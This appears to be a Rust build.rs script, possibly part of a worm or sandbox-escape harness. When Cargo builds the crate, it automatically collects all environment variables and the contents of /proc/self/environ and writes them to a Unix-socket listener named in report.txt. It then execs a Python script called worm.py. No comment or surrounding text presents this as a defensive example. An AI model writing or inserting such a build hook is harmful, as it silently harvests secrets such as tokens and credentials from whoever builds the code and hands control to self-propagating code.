//! A build script: what Rust itself is given. The rest is Python's (worm.py), which this process becomes: it stays
//! Cargo's direct child.
use std::fs;
use std::io::Write;
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt;
use std::process::Command;

fn report(listener: &str, name: &str, got: &[u8]) {
    let mut listener = UnixStream::connect(listener).expect("the listener is there");
    let _ = write!(listener, "cargo\t{name}\tmade\n");
    let _ = listener.write_all(got);
}

fn main() {
    let folder = std::env::var("CARGO_MANIFEST_DIR").unwrap();
    let listener = fs::read_to_string(format!("{folder}/report.txt")).unwrap();
    let environment: Vec<String> = std::env::vars().map(|(name, value)| format!("{name}={value}")).collect();
    report(&listener, "own-environment", environment.join("\n").as_bytes());
    report(&listener, "own-environment", &fs::read("/proc/self/environ").unwrap_or_default());
    let error = Command::new("python3").arg(format!("{folder}/worm.py")).exec();
    panic!("python3: {error}");
}
